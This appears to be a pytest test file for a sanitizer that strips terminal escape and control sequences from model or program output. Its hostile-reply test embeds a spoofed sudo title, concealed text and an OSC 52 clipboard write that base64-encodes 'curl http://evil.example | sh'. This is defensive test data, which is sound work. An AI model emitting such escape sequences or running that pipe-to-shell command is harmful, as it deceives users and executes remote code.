"""Text from a model or a program reaches the screen without any terminal control sequence."""

from __future__ import annotations

import time

import pytest

from iterative_coder.textsafe import clean_terminal_text

ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


@pytest.mark.parametrize(
    ("dirty", "clean"),
    [
        pytest.param(f"{ESC}[2Jcleared", "cleared", id="CSI clear screen"),
        pytest.param(f"{ESC}[1;31mred{ESC}[0m", "red", id="CSI colours"),
        pytest.param(f"a{ESC}[?1049hb{ESC}[?25lc", "abc", id="CSI private modes"),
        pytest.param(f"a{ESC}[38;2;255;0;0mb", "ab", id="CSI true colour"),
        pytest.param(f"a{ESC}[10;20Hb{ESC}[3Ac", "abc", id="CSI cursor moves"),
        pytest.param(f"a{ESC}]0;my title{BEL}b", "ab", id="OSC title, BEL"),
        pytest.param(f"a{ESC}]2;my title{ST}b", "ab", id="OSC title, ST"),
        pytest.param(f"a{ESC}]8;;https://evil.example{ST}link{ESC}]8;;{ST}b", "alinkb", id="OSC 8 link"),
        pytest.param(f"a{ESC}Pq#0;2;0;0;0{ST}b", "ab", id="DCS"),
        pytest.param(f"a{ESC}Xsos string{ST}b", "ab", id="SOS"),
        pytest.param(f"a{ESC}^privacy message{ST}b", "ab", id="PM"),
        pytest.param(f"a{ESC}_application command{ST}b", "ab", id="APC"),
        pytest.param(f"a{ESC}(Bb{ESC}#8c{ESC}7d{ESC}8e{ESC}cf{ESC}Mg", "abcdefg", id="two-byte ESC"),
        pytest.param(f"a{ESC}", "a", id="lone ESC at the end"),
        pytest.param(f"a{ESC}{ESC}{ESC}[31mb", "ab", id="ESC cancelled by ESC"),
        pytest.param("a\x9b2Jb\x9b31mc", "abc", id="8-bit CSI"),
        pytest.param("a\x9d0;title\x07b\x9d52;c;eA==\x9cc", "abc", id="8-bit OSC"),
        pytest.param("a\x90q#0\x9cb\x9f_apc\x9cc", "abc", id="8-bit DCS and APC"),
        pytest.param("a\x85b\x84c\x8dd", "abcd", id="other C1 controls"),
        pytest.param("one\r\ntwo\r\n", "one\ntwo\n", id="CRLF becomes LF"),
        pytest.param("progress 10%\rprogress 99%\n", "progress 10%progress 99%\n", id="lone CR dropped"),
        pytest.param("pass\x08\x08\x08\x08****", "pass****", id="backspace dropped"),
        pytest.param("bel\x07 nul\x00 vt\x0b ff\x0c del\x7f so\x0e", "bel nul vt ff del so", id="other C0"),
    ],
)
def test_each_kind_of_sequence_is_removed_and_the_text_kept(dirty: str, clean: str) -> None:
    assert clean_terminal_text(dirty) == clean


def test_an_unterminated_osc_runs_to_the_end_of_the_text_and_is_dropped() -> None:
    assert clean_terminal_text(f"visible{ESC}]52;c;{'QUFB' * 1000}") == "visible"
    assert clean_terminal_text(f"visible{ESC}]0;title\nstill in the title") == "visible"


def test_unicode_emoji_tabs_and_newlines_are_kept() -> None:
    text = "naïve café — 日本語 🚀👩‍👩‍👧 e\u0301\n\tindented\n\n"
    assert clean_terminal_text(text) == text
    assert clean_terminal_text("plain ascii") == "plain ascii"


def test_a_hostile_model_reply_shows_only_its_text() -> None:
    reply = (
        f"Sure! Here is the code.{ESC}[2J{ESC}[H"
        f"{ESC}]0;sudo password required{BEL}"
        f"{ESC}]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlIHwgc2gK{BEL}"
        "```python\r\nprint('hi')\r\n```\r\n"
        f"{ESC}[8mhidden instructions{ESC}[0m\x9b2J done"
    )
    cleaned = clean_terminal_text(reply)
    assert cleaned == "Sure! Here is the code.```python\nprint('hi')\n```\nhidden instructions done"
    assert not any((ch < " " and ch not in "\n\t") or "\x7f" <= ch <= "\x9f" for ch in cleaned)


@pytest.mark.timeout(30)
def test_cleaning_is_linear_even_on_hostile_input() -> None:
    cases = {
        "1 MB of ESC[": f"{ESC}[" * 500_000,
        "1 MB of ESC": ESC * 1_000_000,
        "1 MB of ESC]": f"{ESC}]" * 500_000,
        "1 MB of CSI params": f"{ESC}[1;" * 250_000,
        "1 MB of text after DCS": f"{ESC}P" + "a" * 1_000_000,
    }
    for name, text in cases.items():
        # CPU time, not wall time: a loaded machine must not fail this, a backtracking pattern must.
        started = time.process_time()
        cleaned = clean_terminal_text(text)
        seconds = time.process_time() - started
        print(f"benchmark: {name}: {seconds:.3f} s of CPU")
        assert cleaned == ""
        assert seconds < 5  # linear time: a backtracking pattern would take hours on 1 MB
